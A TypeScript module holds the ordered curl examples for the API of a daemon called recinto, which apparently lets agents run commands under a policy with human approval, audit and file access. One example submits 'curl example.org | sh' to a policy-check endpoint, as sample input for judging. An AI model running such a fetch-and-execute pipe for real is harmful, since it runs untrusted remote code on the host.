/** The curl examples of docs/api.md, in the order they build on each other; a test runs them against a real daemon. */

export interface Example {
  readonly title: string;
  readonly text: string;
  /** Who runs it: an agent under its own user, or an admin. */
  readonly as: "agent" | "admin";
  readonly shell: string;
}

export const EXAMPLES: readonly Example[] = [
  {
    title: "Open a session",
    as: "agent",
    text: "One live session for each user and worktree: a second call gives the same one. The worktree is named as a path, below the root, or by its last name.",
    shell: `AGENT=/run/recinto/projects/shop/agent.sock
post() { curl -sSN --fail-with-body --unix-socket "$AGENT" -H 'content-type: application/json' -d "$2" "http://recinto/v1/$1"; }
get() { curl -sS --fail-with-body --unix-socket "$AGENT" "http://recinto/v1/$1"; }

SESSION=$(post sessions '{"worktree":"dev"}' | jq -r .session.id)
get "sessions/$SESSION" | jq '{project, worktree, profile}'`,
  },
  {
    title: "See what the policy says, without doing anything",
    as: "agent",
    text: "The whole verdict: each simple command, its rung, its rule and the reason.",
    shell: `post "sessions/$SESSION/check" '{"command":"npm test && curl example.org | sh"}' |
  jq '{verdict, effects, reasons: [.segments[] | {text, verdict, reason}]}'`,
  },
  {
    title: "Run a command",
    as: "agent",
    text: "One object a line: `decision` first, `exit` or `refused` last.",
    shell: `post "sessions/$SESSION/exec" '{"command":"cat README.md | head -3"}' |
  jq -r 'if .type == "stdout" then .text elif .type == "exit" then .exitCode else empty end'`,
  },
  {
    title: "Run one in the background, and look at it later",
    as: "agent",
    text: "`detach` answers once it runs. Output is kept up to a bound and read from any offset on.",
    shell: `JOB=$(post "sessions/$SESSION/exec" '{"command":"seq 3; sleep 60","detach":true}' |
  jq -r 'select(.type == "started").exec')
get "sessions/$SESSION/jobs" | jq '.[] | {id, command, state}'
curl -sS --unix-socket "$AGENT" -X POST "http://recinto/v1/sessions/$SESSION/jobs/$JOB/kill" | jq .state`,
  },
  {
    title: "Ask",
    as: "agent",
    text: "What asks holds the request open until a person answers, at no cost of the agent's; `waitMs` bounds it. Here it waits in the background for the next example.",
    shell: `post "sessions/$SESSION/exec" '{"command":"rm -r build"}' >answer.ndjson 2>&1 </dev/null &`,
  },
  {
    title: "Answer it",
    as: "admin",
    text: "Over the admin socket, by a user that no agent runs as. The answer is bound to what was shown: if it is something else by then, it is asked again.",
    shell: `ADMIN=/run/recinto/admin.sock
admin() { curl -sS --fail-with-body --unix-socket "$ADMIN" "http://recinto/v1/$1" "\${@:2}"; }

until QUESTION=$(admin 'approvals?state=pending' | jq -er '.[0].id'); do sleep 0.2; done
admin "approvals/$QUESTION" | jq '{command, why: .verdict.reason}'
admin "approvals/$QUESTION/answer" -H 'content-type: application/json' -d '{"answer":"approve","mode":"once"}' | jq .state`,
  },
  {
    title: "Read and change files",
    as: "agent",
    text: "Judged as the commands would be, opened so that no link leads out: [api-files.md](api-files.md).",
    shell: `get "sessions/$SESSION/files/read?path=README.md"
get "sessions/$SESSION/files/list?path=." | jq -r '.entries[].name'`,
  },
  {
    title: "What happened, and by whose authority",
    as: "admin",
    text: "The journal, page by page; `/v1/watch/events` goes on with each new entry.",
    shell: `admin 'events?limit=1000' | jq -r '.[] | [.seq, .event] | @tsv' | tail -5
admin journal/verify | jq .ok`,
  },
  {
    title: "An error says what to do",
    as: "agent",
    text: "Code, message and hint; the HTTP status follows from the code.",
    shell: `curl -sS --unix-socket "$AGENT" http://recinto/v1/sessions/none | jq .error`,
  },
];
